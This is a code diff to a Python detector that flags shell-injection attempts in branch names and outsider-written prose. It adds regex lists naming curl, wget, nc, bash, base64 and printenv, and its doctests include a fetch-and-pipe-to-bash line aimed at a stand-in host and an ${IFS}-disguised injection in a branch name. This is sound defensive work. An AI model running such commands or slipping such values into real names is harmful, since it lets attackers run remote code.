@@ -17,8 +17,20 @@ _VARYING = re.compile(
     r"|\b(?=[a-f]{0,63}\d)[0-9a-f]{7,64}\b|\d+(?:\.\d+)*"
 )
 _SPACE = re.compile(r"\s+")
-_METACHARACTERS = re.compile(r"[`$;|&<>\\]|\$\(|\{\{|\x1b|\x00")
-_SHELL = re.compile(r"\$\(|\$\{|`[^`]*`|\{\{|[;|&]{1,2} *(?:curl|wget|bash|sh|python|nc|eval|cat|echo)\b|\x1b|\x00")
+_PROGRAMS = (
+    r"(?:curl|wget|ba?sh|zsh|pwsh|powershell|python3?|perl|ruby|node|nc|ncat|eval|exec|base64|printenv|env|whoami|id)"
+)
+_IN_PROSE = (
+    ("a program to run", re.compile(rf"(?:[;|&(]|`|\$\{{?IFS\}}?)[ \t]{{0,8}}{_PROGRAMS}\b(?!\))")),
+    ("template expression", re.compile(r"\{\{")),
+    ("control characters", re.compile(r"[\x00-\x08\x1b]")),
+)
+_IN_NAMES = (
+    ("command substitution", re.compile(r"\$\(|`")),
+    ("blank written as a variable", re.compile(r"\$\{?IFS")),
+    ("variable", re.compile(r"\$\{?[A-Za-z_]")),
+    ("shell characters", re.compile(r"[;|&<>\\\"']")),
+)
 _ENCODED = re.compile(
     r"[A-Za-z0-9+/=_-]{48,}|(?:%[0-9A-Fa-f]{2}){4,}|(?:\\x[0-9a-fA-F]{2}){3,}|(?:\\u[0-9a-fA-F]{4}){3,}"
 )
@@ -44,15 +56,13 @@ def shape_of(text: str, limit: int = MAX_SHAPE) -> str:
 
 
 def oddities_of(text: str, long: int) -> list[str]:
-    """Return what is odd about text an outsider may have written; `long` is the length that is odd in itself.
+    """Return what is odd about prose an outsider may have written; `long` is the length that is odd in itself.
 
-    >>> oddities_of('feature/a"; curl http://x.example | bash', 100)
-    ['shell metacharacters']
+    >>> oddities_of("Please merge; curl http://x.example | bash", 100)
+    ['a program to run']
     """
     head = text[:MAX_LOOKED_AT]
-    odd = []
-    if _SHELL.search(head):
-        odd.append("shell metacharacters")
+    odd = [name for name, pattern in _IN_PROSE if pattern.search(head)]
     if _ENCODED.search(head):
         odd.append("encoded run")
     if _HIDDEN.search(head):
@@ -65,11 +75,12 @@ def oddities_of(text: str, long: int) -> list[str]:
 
 
 def name_oddities_of(name: str) -> list[str]:
-    """Return what is odd about a branch, tag or file name, where any shell character is odd."""
-    odd = oddities_of(name, 80)
-    if not odd and _METACHARACTERS.search(name):
-        odd.append("shell metacharacters")
-    return odd
+    """Return what is odd about a branch, tag or file name, where what is ordinary in prose is odd too.
+
+    >>> name_oddities_of("fix;curl${IFS}x.example")
+    ['a program to run', 'blank written as a variable', 'variable', 'shell characters']
+    """
+    return oddities_of(name, 80) + [what for what, pattern in _IN_NAMES if pattern.search(name[:MAX_LOOKED_AT])]
 
 
 @lru_cache(maxsize=16384)
